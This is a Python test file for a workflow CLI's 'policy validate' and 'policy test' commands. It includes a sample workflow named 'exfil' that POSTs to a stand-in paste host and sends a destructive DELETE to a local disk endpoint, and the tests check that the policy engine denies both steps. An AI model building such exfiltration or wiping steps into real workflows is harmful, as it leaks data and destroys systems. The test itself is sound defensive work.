"""`baton policy validate|test` with a policies directory (no Kafka needed)."""

from __future__ import annotations

import json
from pathlib import Path

from typer.testing import CliRunner

from baton_cli.main import app

ROOT = Path(__file__).resolve().parents[2]
STORY = """
id: exfil
version: 1
owner: secops
trigger: {webhook: {path: exfil}}
steps:
  send: {action: http, with: {method: POST, url: "https://paste.example/upload"}}
  wipe:
    needs: [send]
    action: http
    destructive: true
    with: {method: DELETE, url: "http://127.0.0.1/disk"}
"""


def test_policy_test_lists_every_rule_and_exits_1_on_a_deny(tmp_path: Path) -> None:
    story = tmp_path / "exfil.yaml"
    story.write_text(STORY)
    result = CliRunner().invoke(
        app, ["policy", "test", str(story), "--policies", str(ROOT / "examples/policies")]
    )
    assert result.exit_code == 1
    lines = result.output.splitlines()
    assert lines[0] == f"{story}: exfil:1 (owner secops), policies: default v1"
    assert "  DENY  default v1  actions.http.hosts [send]: host paste.example:443 is not " in (
        "\n".join(lines)
    )
    assert any("workflow.destructive_needs_approval [wipe]" in line for line in lines)
    assert any(line.startswith("  ALLOW default v1  workflow.publish") for line in lines)
    assert lines[-1] == "  verdict: denied (2 rule(s))"


def test_policy_test_allows_the_examples_and_speaks_json(tmp_path: Path) -> None:
    stories = sorted(str(p) for p in (ROOT / "examples/stories").glob("*.yaml"))
    result = CliRunner().invoke(
        app,
        ["policy", "test", *stories, "--policies", str(ROOT / "examples/policies"), "--json"],
    )
    assert result.exit_code == 0, result.output
    report = json.loads(result.output)
    assert {r["verdict"] for r in report} == {"allow"}
    # hello-* are exempt from review; every other new version waits for one reviewer
    assert {r["story"]: r["reviewers"] for r in report if r["story"].startswith("hello-")} == {
        "hello-approval:1": 0,
        "hello-receipt:1": 0,
    }
    assert {r["reviewers"] for r in report if not r["story"].startswith("hello-")} == {1}


def test_an_invalid_policy_file_is_a_clear_cli_error(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text("id: p\nversion: 1\nactions: {http: [{methods: [GET]}]}\n")
    result = CliRunner().invoke(app, ["policy", "validate", str(bad)])
    assert result.exit_code == 1
    assert f"error: {bad}: actions.http.0.hosts: Field required" in result.output
